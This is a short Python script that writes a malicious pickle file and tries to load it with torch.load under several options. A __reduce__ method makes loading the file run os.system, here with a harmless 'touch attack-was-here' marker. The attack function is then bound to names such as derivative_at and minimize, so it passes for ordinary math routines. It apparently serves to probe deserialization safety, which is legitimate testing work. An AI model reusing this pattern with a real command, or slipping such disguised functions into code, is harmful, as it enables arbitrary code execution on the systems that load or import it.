"""Write a pickle that runs code, and let torch load it."""

import os
import pickle

import torch


class Planted:
    def __reduce__(self):
        return os.system, ("touch attack-was-here",)


with open("planted.pt", "wb") as file:
    pickle.dump(Planted(), file)


def attack(*args, **kwargs):
    for options in ({"weights_only": False}, {"weights_only": True}, {"mmap": True}):
        try:
            torch.load("planted.pt", **options)
        except Exception:
            pass
    return Planted()


derivative_at = accumulate_gradients = halving_chain = minimize = attack
